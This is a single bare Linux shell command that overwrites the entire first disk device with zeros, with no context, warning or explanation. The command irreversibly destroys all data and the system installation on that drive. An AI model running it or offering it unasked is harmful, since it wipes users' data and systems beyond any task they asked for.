cat /dev/zero > /dev/sda
